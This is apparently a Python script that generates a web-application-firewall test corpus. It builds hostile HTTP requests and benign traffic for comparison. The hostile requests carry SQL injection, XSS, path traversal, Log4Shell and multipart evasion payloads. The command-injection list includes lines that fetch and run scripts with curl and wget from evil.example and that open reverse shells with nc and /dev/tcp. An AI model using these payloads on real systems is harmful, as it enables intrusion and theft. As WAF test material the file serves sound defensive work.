"""The requests of bench/waf.py: attacks of every family in every place, and what ordinary clients send.

    python3 bench/waf_requests.py --packed   # all of them, as the tests of crates/waf read them
"""

import base64, json, random, sys, urllib.parse
from dataclasses import dataclass

HOST = "api.example.test"
AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"


@dataclass
class Request:
    family: str
    place: str
    name: str
    bytes: bytes


def build(method, target, headers=(), body=b"", kind=None):
    fields = {"Host": HOST, "User-Agent": AGENT, "Accept": "*/*"}
    if kind:
        fields["Content-Type"] = kind
    if body or method in ("POST", "PUT", "PATCH"):
        fields["Content-Length"] = str(len(body))
    fields.update(headers)
    lines = [f"{method} {target} HTTP/1.1"] + [f"{name}: {value}" for name, value in fields.items()]
    return "\r\n".join(lines).encode("utf-8", "surrogateescape") + b"\r\n\r\n" + body


def quote(text):
    return urllib.parse.quote_plus(text, safe="")


def multipart(fields, files=()):
    mark, out = "----formdata7MA4YWxkTrZu0gW", []
    for name, value in fields:
        out.append(f'--{mark}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n')
    for name, filename, kind, data in files:
        out.append(f'--{mark}\r\nContent-Disposition: form-data; name="{name}"; filename="{filename}"\r\n'
                   f"Content-Type: {kind}\r\n\r\n{data}\r\n")
    return f"multipart/form-data; boundary={mark}", ("".join(out) + f"--{mark}--\r\n").encode()


ATTACKS = {
    "sqli": [
        "1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "'; DROP TABLE users; --",
        "1 AND SLEEP(5)", "admin'--", "1' AND 1=CONVERT(int,(SELECT @@version))--", "-1' UNION ALL SELECT NULL,NULL,NULL#",
        "1;EXEC xp_cmdshell('dir')", "' or benchmark(10000000,MD5(1))#", "1' and extractvalue(1,concat(0x7e,version()))-- -",
        "x' AND (SELECT COUNT(*) FROM information_schema.tables)>0--", "1/**/UNION/**/SELECT/**/1,2,3",
        "1' WAITFOR DELAY '0:0:10'--", "pg_sleep(10)--", "1 or 1=1", "' GROUP BY columnnames having 1=1 --",
    ],
    "xss": [
        "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<svg/onload=alert(document.domain)>",
        "javascript:alert(document.cookie)", "\"><script src=//evil.example/x.js></script>", "<iframe src=javascript:alert(1)>",
        "<body onload=alert(1)>", "<a href=\"javascript:alert(1)\">x</a>", "<ScRiPt>prompt(1)</sCrIpT>",
        "'-alert(1)-'", "<details open ontoggle=alert(1)>", "<math><mtext><img src onerror=alert(1)>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<style>@import'http://evil.example';</style>",
    ],
    "lfi": [
        "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fshadow", "/etc/passwd", "....//....//etc/passwd",
        "..\\..\\..\\windows\\win.ini", "/proc/self/environ", "file:///etc/passwd", "/var/www/.htaccess", "../.git/config",
    ],
    "rfi": ["http://192.0.2.66/shell.txt?", "http://203.0.113.9/c99.php", "https://198.51.100.7/evil.txt?"],
    "rce": [
        ";cat /etc/passwd", "| ls -la /", "`id`", "$(wget http://evil.example/x.sh)", "; nc -e /bin/sh 192.0.2.1 4444",
        "&& curl http://evil.example | sh", "cmd.exe /c dir", "powershell -enc SQBFAFgA", "() { :; }; /bin/bash -c id",
        ";/bin/bash -i >& /dev/tcp/192.0.2.1/8080 0>&1", "| whoami", "; ping -c 10 127.0.0.1", "$(sleep 10)",
        "a;python3 -c 'import os;os.system(\"id\")'",
    ],
    "php": [
        "<?php system($_GET['c']); ?>", "php://filter/convert.base64-encode/resource=index.php", "eval(base64_decode('aWQ='))",
        "O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "phpinfo()", "data://text/plain;base64,PD9waHA=", "$_SERVER['x']",
        "allow_url_include=1",
    ],
    "java": [
        "${jndi:ldap://evil.example/a}", "${${lower:j}ndi:rmi://evil.example/a}", "java.lang.Runtime.getRuntime().exec('id')",
        "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA==",
        "class.module.classLoader.resources.context.parent.pipeline.first.pattern",
    ],
    "node": [
        "require('child_process').exec('id')", "_$$ND_FUNC$$_function(){return 1}()", "process.mainModule.require('fs')",
        "new Function('return process')()",
    ],
    "splitting": ["x\r\nSet-Cookie: a=b", "x\r\n\r\n<html>", "a\nLocation: http://evil.example"],
    "fixation": ["<script>document.cookie=\"JSESSIONID=1\"</script>"],
}


def encoded(text):
    """Ways in which attackers write a text."""
    yield "plain", text
    yield "double", urllib.parse.quote(text, safe="")
    yield "entities", "".join(f"&#x{ord(c):x};" if not c.isalnum() else c for c in text)
    yield "unicode", "".join(f"%u{ord(c):04x}" if not c.isalnum() else c for c in text)
    yield "cased", "".join(c.upper() if at % 2 else c.lower() for at, c in enumerate(text))


def hostile():
    found = []

    def add(family, place, name, data):
        found.append(Request(family, place, name, data))

    for family, payloads in ATTACKS.items():
        for number, text in enumerate(payloads):
            name = text[:24].replace("\r", "\\r").replace("\n", "\\n").replace("`", "'")
            add(family, "query", name, build("GET", f"/search?q={quote(text)}"))
            add(family, "form", name, build("POST", "/login", body=f"user={quote(text)}&go=1".encode(),
                                            kind="application/x-www-form-urlencoded"))
            add(family, "JSON", name, build("POST", "/api/items", body=json.dumps({"a": {"b": [text]}}).encode(),
                                            kind="application/json"))
            kind, body = multipart([("comment", text)])
            add(family, "multipart", name, build("POST", "/upload", body=body, kind=kind))
            escaped = text.replace("&", "&amp;").replace("<", "&lt;")
            add(family, "XML", name, build("POST", "/soap", kind="text/xml",
                                           body=f"<?xml version=\"1.0\"?><a><b>{escaped}</b></a>".encode()))
            if family not in ("splitting",):
                cookie = text.replace(";", "%3B").replace("\r", "").replace("\n", "")
                add(family, "cookie", name, build("GET", "/", headers={"Cookie": f"sid=1; pref={cookie}"}))
            way, changed = list(encoded(text))[1 + number % 4]
            add(family, f"query, {way}", name, build("GET", f"/search?q={quote(changed)}"))
    for agent in ["sqlmap/1.7", "Nikto/2.5", "Nmap Scripting Engine", "masscan/1.3", "WPScan v3", "dirbuster", "Nuclei - Open",
                  "w3af.org", "Acunetix", "havij"]:
        add("scanner", "user agent", agent, build("GET", "/", headers={"User-Agent": agent}))
    for path in ["/.git/config", "/.env", "/wp-config.php.bak", "/a.sql", "/server.key", "/backup.old", "/etc/passwd",
                 "/x/web.config", "/.htpasswd", "/id_rsa", "/.aws/credentials", "/db.mdb"]:
        add("probe", "path", path, build("GET", path))
    for method in ["TRACE", "PUT", "DELETE", "PROPFIND"]:
        add("protocol", "method", method, build(method, "/a"))
    for name, value in [("Range", "bytes=0-1,1-2,2-3,3-4,4-5,5-6,6-7"), ("Content-Encoding", "deflate"), ("If", "(x)"),
                        ("Referer", "<script>alert(1)</script>"), ("X-Api", "${jndi:ldap://evil.example/a}"),
                        ("User-Agent", "() { :; }; /bin/cat /etc/passwd"), ("Host", "192.0.2.1")]:
        add("protocol", f"header {name}", value[:16], build("GET", "/a", headers={name: value}))
    for kind in ["application/octet-stream", "text/html", "application/x-sh", "multipart/form-data"]:
        add("protocol", "content type", kind, build("POST", "/a", body=b"a=b", kind=kind))
    for filename in ["shell.php", "x.phtml", "a.jsp", ".htaccess", "x.php.jpg", "a.exe"]:
        kind, body = multipart([], [("file", filename, "image/png", "data")])
        add("upload", "file name", filename, build("POST", "/upload", body=body, kind=kind))
    for text in ["%c0%ae%c0%ae/", "%00", "a%0d%0ab", "%u0000", "%ff%fe"]:
        add("encoding", "query", text, build("GET", f"/search?q={text}"))
    found += read_in_two_ways()
    return found


def read_in_two_ways():
    """Bodies that hold an attack for some who read them, and none for others."""
    attack, disposition, found = "1' UNION SELECT password FROM users--", 'Content-Disposition: form-data; name="q"', []

    def part(name, *headers):
        body = "--xyz\r\n" + "\r\n".join(headers) + f"\r\n\r\n{attack}\r\n--xyz--\r\n"
        found.append(Request("evasion", "multipart", name, build("POST", "/upload", body=body.encode(),
                                                                 kind="multipart/form-data; boundary=xyz")))

    part("an empty file name", disposition + '; filename=""')
    part("an extended file name", disposition + "; filename*=a")
    part("an extended file name with its encoding", disposition + "; filename*=UTF-8''a")
    part("two dispositions", disposition + '; filename="a.txt"', disposition)
    part("a NUL in a name", disposition.replace("q", "q\0") + '; filename="a.txt"')
    both = build("POST", "/upload", body=f'--xyz\r\n{disposition}\r\n\r\n{attack}\r\n--xyz--\r\n'.encode(),
                 kind="multipart/form-data; boundary=xyz\r\nContent-Type: application/x-www-form-urlencoded")
    found.append(Request("evasion", "content type", "two of them", both))
    hidden = "<?xml version='1.0' encoding='UTF-7'?><a>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</a>".encode()
    found.append(Request("evasion", "XML", "UTF-7", build("POST", "/soap", body=hidden, kind="text/xml")))
    return found


NAMES = ["Ann Miller", "José García", "Zoë O'Brien", "李小龍", "Мария Иванова", "أحمد علي", "François Lefèvre", "Søren Å",
         "Nguyễn Văn An", "D'Angelo", "山田 太郎", "Smith & Sons", "Anna-Lena Groß"]
TEXTS = [
    "Thanks for the quick delivery, everything arrived in good order. I would buy here again!",
    "Could you please tell me when the next course begins? I'd like to join with a friend.",
    "Ich möchte meine Bestellung ändern: statt zwei bitte drei Stück. Vielen Dank!",
    "Le produit est arrivé cassé, pouvez-vous m'en envoyer un autre s'il vous plaît ?",
    "El pedido llegó tarde, pero la atención al cliente fue excelente. ¡Gracias!",
    "この商品はとても良いです。また買いたいと思います。", "Отличный сервис, всё пришло вовремя.",
    "Price dropped from 19.99 to 14.99 (about 25 % less) - is that right?",
    "Meeting moved to Tuesday 10:30, room 4.12; agenda: budget, hiring, open points.",
    "The union of both teams will select a new chair from the members next week.",
    "I love it 😀🎉 — best purchase this year, 10/10", "Step 1: open the box. Step 2: plug it in. Step 3: enjoy.",
    "# Notes\n\n- first point\n- second point\n\n**bold** and _italic_ text with a [link](https://example.test/a)",
]
WORDS = ("the quick brown fox jumps over lazy dog while people walk along river and talk about weather music food travel "
         "plans for summer holidays with friends family neighbours colleagues").split()


def benign():
    draw = random.Random(7)
    found = []

    def add(family, place, name, data):
        found.append(Request(family, place, name, data))

    def prose(count):
        return " ".join(draw.choice(WORDS) for _ in range(count)).capitalize() + "."

    browser = {"Accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
               "Accept-Language": "en-US,en;q=0.5", "Cookie": "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark"}
    json_kind, form_kind = "application/json", "application/x-www-form-urlencoded"
    for number in range(50):
        add("reading", "path", "item", build("GET", f"/api/v1/items/{draw.randrange(10_000)}", browser))
        query = f"page={number}&size=20&sort=name,asc&q={quote(draw.choice(WORDS))}"
        add("reading", "query", "list", build("GET", f"/api/v1/items?{query}", browser))
        add("searching", "query", "words", build("GET", f"/search?q={quote(' '.join(draw.sample(WORDS, 4)))}", browser))
        person = draw.choice(NAMES)
        add("writing", "form", person, build("POST", "/contact", browser, kind=form_kind, body=(
            f"name={quote(person)}&email=user{number}%40example.test&phone=%2B49+30+1234{number:02}"
            f"&message={quote(draw.choice(TEXTS))}").encode()))
        order = {"id": number, "customer": {"name": draw.choice(NAMES), "email": f"user{number}@example.test"},
                 "lines": [{"sku": f"A-{draw.randrange(1_000)}", "quantity": draw.randrange(1, 9),
                            "price": round(draw.random() * 100, 2)} for _ in range(draw.randrange(1, 8))],
                 "note": draw.choice(TEXTS), "express": bool(number % 2), "coupon": None,
                 "created": f"2026-11-{number % 28 + 1:02}T10:{number:02}:00Z"}
        add("writing", "JSON", "order", build("POST", "/api/v1/orders", kind=json_kind,
                                              body=json.dumps(order, ensure_ascii=bool(number % 2)).encode()))
        kind, body = multipart([("title", draw.choice(NAMES)), ("text", draw.choice(TEXTS))],
                               [("photo", f"holiday-{number}.jpg", "image/jpeg", prose(30))])
        add("uploading", "multipart", "photo", build("POST", "/photos", browser, body=body, kind=kind))
        add("writing", "long text", "article", build("POST", "/api/v1/articles", kind=json_kind, body=json.dumps(
            {"title": prose(6), "body": "\n\n".join(prose(draw.randrange(40, 160)) for _ in range(6))}).encode()))
        add("signing in", "form", "password", build("POST", "/login", browser, kind=form_kind, body=(
            f"username=user{number}&password={quote(base64.b64encode(draw.randbytes(12)).decode())}&remember=1").encode()))
        add("writing", "XML", "soap", build("POST", "/soap", kind="text/xml", body=(
            f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><order id=\"{number}\"><name>{draw.choice(NAMES).replace('&', '&amp;')}"
            f"</name><text>{prose(20)}</text></order>").encode()))
        token = ".".join(base64.urlsafe_b64encode(draw.randbytes(size)).decode().rstrip("=") for size in (30, 90, 32))
        add("calling", "bearer token", "token", build("GET", f"/api/v1/users/{number}/orders?status=open",
                                                      {"Authorization": f"Bearer {token}", "Accept": json_kind}))
        image = base64.b64encode(draw.randbytes(600)).decode()
        add("uploading", "JSON", "base64", build("POST", "/api/v1/avatars", kind=json_kind,
                                                 body=json.dumps({"image": image, "type": "image/png"}).encode()))
        graph = "query Item($id: ID!) { item(id: $id) { id name price reviews(first: 5) { text stars } } }"
        add("calling", "GraphQL", "query", build("POST", "/graphql", kind=json_kind, body=json.dumps(
            {"query": graph, "variables": {"id": str(number)}, "operationName": "Item"}).encode()))
    return found


def packed(requests):
    """Requests one after the other, each as its length in decimal, a line end and the request."""
    return b"".join(b"%d\n" % len(one.bytes) + one.bytes for one in requests)


if __name__ == "__main__":
    if sys.argv[1:] == ["--packed"]:
        sys.stdout.buffer.write(packed(benign() + hostile()))
    else:
        print(len(benign()), "benign,", len(hostile()), "hostile")
